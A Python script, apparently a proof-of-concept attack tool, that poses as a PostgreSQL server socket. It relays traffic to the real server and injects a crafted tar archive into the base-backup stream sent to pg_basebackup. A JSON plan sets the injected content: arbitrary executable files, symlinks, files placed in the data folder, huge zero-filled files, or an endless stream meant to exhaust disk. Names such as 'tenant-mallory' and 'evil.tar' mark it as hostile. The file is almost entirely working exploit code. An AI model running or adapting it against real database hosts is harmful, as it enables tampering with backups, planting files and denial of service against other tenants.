"""A tenant's own program in the place of its server's socket: hands all on to the server, and adds an archive of its
choosing to each base backup, before or after its own. https://www.postgresql.org/docs/18/protocol-replication.html

relay.py PLAN: a JSON file, {"location": "/where", "files": {"a/b": "content"}}; folders are made on the way. A
location "" is the data folder itself. More that a plan may have: "links": {"a": "target"}, "zeros": {"name": bytes},
"endless": true for files without end, "after": true.
"""

import io
import itertools
import json
import os
import socket
import struct
import sys
import tarfile
import threading
import time

LISTEN = "/var/lib/postgresql/.sockets/.s.PGSQL.5432"
SERVER = "/var/lib/postgresql/.real/.s.PGSQL.5432"


def archive(plan):
    out = io.BytesIO()
    # pg_basebackup makes no folder that is there.
    made = {"tenant-mallory"}
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for path, target in plan.get("links", {}).items():
            member = tarfile.TarInfo(path)
            member.type, member.linkname = tarfile.SYMTYPE, target
            tar.addfile(member)
        for path, content in plan["files"].items():
            parts = path.split("/")[:-1]
            for depth in range(1, len(parts) + 1):
                folder = "/".join(parts[:depth])
                if folder not in made:
                    made.add(folder)
                    member = tarfile.TarInfo(folder)
                    member.type, member.mode = tarfile.DIRTYPE, 0o755
                    tar.addfile(member)
            member = tarfile.TarInfo(path)
            member.size, member.mode = len(content), 0o755
            tar.addfile(member, io.BytesIO(content.encode()))
    return out.getvalue()


def copy_data(payload):
    return b"d" + struct.pack("!I", len(payload) + 4) + payload


def zeros(name, size):
    member = tarfile.TarInfo(name)
    member.size, member.mode = size, 0o600
    yield member.tobuf(tarfile.USTAR_FORMAT)
    block = bytes(1 << 20)
    for _ in range(size >> 20):
        yield block


def read_plan():
    with open(sys.argv[1]) as file:
        return json.load(file)


def injected(plan):
    name = plan.get("archive", "evil.tar").encode()
    content = archive(plan)
    large = plan.get("zeros", {})
    if large or plan.get("endless"):
        content = content.rstrip(b"\0")
        content += bytes(-len(content) % 512)
    chunks = [content[at : at + 8192] for at in range(0, len(content), 8192)]
    yield copy_data(b"n" + name + b"\0" + plan["location"].encode() + b"\0")
    for chunk in chunks:
        yield copy_data(b"d" + chunk)
    for name, size in large.items():
        for block in zeros(name, size):
            yield copy_data(b"d" + block)
    if large:
        yield copy_data(b"d" + bytes(1024))
    for count in itertools.count() if plan.get("endless") else ():
        for block in zeros(f"endless-{count}", 64 << 20):
            time.sleep(0.005)
            yield copy_data(b"d" + block)


def read_exactly(connection, count):
    content = b""
    while len(content) < count:
        part = connection.recv(count - len(content))
        if not part:
            raise EOFError
        content += part
    return content


def answers(server, client):
    try:
        while True:
            head = read_exactly(server, 5)
            body = read_exactly(server, struct.unpack("!I", head[1:])[0] - 4)
            if head[:1] == b"d" and (body.startswith(b"nbase.tar\0") or body == b"m"):
                plan = read_plan()
                if plan.get("after", False) == (body == b"m"):
                    for message in injected(plan):
                        client.sendall(message)
            client.sendall(head + body)
    except (EOFError, OSError):
        pass
    finally:
        for one in (client, server):
            # While the other thread waits for it, a socket that is closed stays open to its peer.
            try:
                one.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            one.close()


def serve(client):
    server = socket.socket(socket.AF_UNIX)
    server.connect(SERVER)
    threading.Thread(target=answers, args=(server, client), daemon=True).start()
    try:
        while True:
            content = client.recv(65536)
            if not content:
                break
            server.sendall(content)
    except OSError:
        pass
    finally:
        try:
            server.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass


def main():
    if os.path.exists(LISTEN):
        os.unlink(LISTEN)
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(LISTEN)
    listener.listen(64)
    while True:
        client, _ = listener.accept()
        threading.Thread(target=serve, args=(client,), daemon=True).start()


main()
